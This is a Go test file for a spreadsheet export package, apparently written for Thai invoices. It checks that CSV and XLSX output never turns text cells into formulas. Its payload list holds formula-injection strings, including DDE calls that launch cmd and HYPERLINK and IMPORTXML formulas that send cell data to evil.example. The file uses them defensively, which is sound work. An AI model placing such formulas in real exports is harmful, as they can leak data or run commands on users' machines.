package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

// payloads are texts that some spreadsheet would take for a formula, made of
// every beginning and every tail, and texts that only look so.
func payloads() (all []string) {
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u3000＝", "\ufeff=", "\u200b="} {
		for _, tail := range []string{
			"1+1", `cmd|' /C calc'!A0`, `HYPERLINK("http://evil.example/?x="&A1,"click")`, "SUM(A1:A9)", `DDE("cmd";"/C calc";"x")`, "", "66812345678", "5.00",
			`IMPORTXML(CONCAT("http://evil.example?",A1),"//a")`, `"";=1`, "A1,=2", "A1;=2", "A1\r\n=2", "'x",
		} {
			all = append(all, begin+tail)
		}
	}
	return append(all, "0105562000007", "00001", "สมชาย", "a=b", "'=1", "1E10", "12-5", "TRUE", "\x00=1", "1/2")
}

func TestNoTextOfACSVIsAFormula(t *testing.T) {
	t.Parallel()
	texts := payloads()
	if len(texts) < 200 {
		t.Fatalf("only %d payloads", len(texts))
	}
	var out bytes.Buffer
	w := NewCSV(&out, Look{ISO: true})
	at := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	for _, s := range texts {
		if err := w.Write([]Cell{Text(s), Satang(-500), Text("x" + s), Number(decimal.RequireFromString("-1.2500")), Day(at)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out.String(), "\ufeff") {
		t.Fatal("Excel would not take it for UTF-8")
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes()[3:])).ReadAll()
	if err != nil || len(rows) != len(texts) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for n, row := range rows {
		if first := strings.TrimLeft(row[0], " \u00a0\u3000\u200b\ufeff"); first != "" && strings.ContainsRune(beginsFormula, []rune(first)[0]) {
			t.Errorf("%q became %q", texts[n], row[0])
		}
		// A bare carriage return is no character of a CSV.
		back := strings.ReplaceAll(strings.TrimPrefix(row[0], "'"), "\r", "")
		if want := strings.ReplaceAll(strings.TrimPrefix(texts[n], "'"), "\r", ""); back != want {
			t.Errorf("%q reads back as %q", want, back)
		}
		if row[1] != "-5.00" || row[3] != "-1.25" || row[4] != "2026-11-22" || len(row) != 5 {
			t.Errorf("the numbers beside %q are %q", texts[n], row)
		}
	}
}

func TestXLSXKeepsTextsAsTextAndNumbersAsNumbers(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	b := NewBook(&out, Look{Buddhist: true})
	s, err := b.Sheet("รายการ [1/2]", true, 20, 14)
	must(t, err)
	day, at := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 22, 6, 0, 0, 0, time.UTC)
	must(t, s.Write([]Cell{Text("ข้อความ"), Text("จำนวน")}))
	texts := payloads()
	for _, text := range texts {
		must(t, s.Write([]Cell{Text(text), Satang(107001), Day(day), Instant(at), Count(3), {}, Number(decimal.RequireFromString("0.3333"))}))
	}
	about, err := b.Sheet("about", false)
	must(t, err)
	must(t, about.Write([]Cell{Text("total"), Satang(1 << 60)}))
	must(t, b.Close())

	f, err := excelize.OpenReader(&out)
	must(t, err)
	names := f.GetSheetList()
	if len(names) != 2 || strings.ContainsAny(names[0], "[]/") {
		t.Errorf("the sheets are %q", names)
	}
	for n, text := range texts {
		row := strconv.Itoa(n + 2)
		want := strings.ReplaceAll(strings.ReplaceAll(text, "\x00", ""), "\r\n", "\n")
		got, _ := f.GetCellValue(names[0], "A"+row)
		if strings.ReplaceAll(got, "\r\n", "\n") != want && !strings.Contains(text, "\r") {
			t.Errorf("%q reads back as %q", want, got)
		}
		if formula, _ := f.GetCellFormula(names[0], "A"+row); formula != "" {
			t.Errorf("%q is a formula", text)
		}
		if kind, _ := f.GetCellType(names[0], "A"+row); kind != excelize.CellTypeInlineString {
			t.Errorf("%q is of type %v", text, kind)
		}
	}
	for cell, want := range map[string]string{"B2": "1070.01", "C2": "46348", "D2": "46348.5416666667", "E2": "3", "G2": "0.3333"} {
		if got, _ := f.GetCellValue(names[0], cell, excelize.Options{RawCellValue: true}); got != want {
			t.Errorf("%s is %q, want %q", cell, got, want)
		}
	}
	if got, _ := f.GetCellValue(names[1], "B1", excelize.Options{RawCellValue: true}); got != "11529215046068469.76" {
		t.Errorf("a large amount is %s", got)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestAHundredThousandRowsTakeNoMoreMemoryThanTen watches both writers.
func TestASheetEndsWhereExcelWouldCutItOff(t *testing.T) {
	t.Parallel()
	s, err := NewBook(io.Discard, Look{}).Sheet("x", true)
	if err != nil {
		t.Fatal(err)
	}
	for n := range MaxRows {
		if err := s.Write(nil); err != nil {
			t.Fatalf("row %d: %v", n+1, err)
		}
	}
	if err := s.Write(nil); !errors.Is(err, ErrSheetFull) {
		t.Errorf("one more: %v", err)
	}
}

func TestAHundredThousandRowsTakeNoMoreMemoryThanTen(t *testing.T) {
	row := []Cell{Text("INV-1"), Text("บริษัท ผู้ซื้อ จำกัด"), Satang(107000), Day(time.Now()), Instant(time.Now())}
	write := func(w Writer) {
		for range 100_000 {
			must(t, w.Write(row))
		}
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	b := NewBook(io.Discard, Look{})
	s, err := b.Sheet("x", true)
	must(t, err)
	write(sheetOnly{s})
	must(t, b.Close())
	c := NewCSV(io.Discard, Look{})
	write(c)
	must(t, c.Close())
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 4<<20 {
		t.Errorf("%d bytes are held", grown)
	}
}

type sheetOnly struct{ *Sheet }

func (sheetOnly) Close() error { return nil }
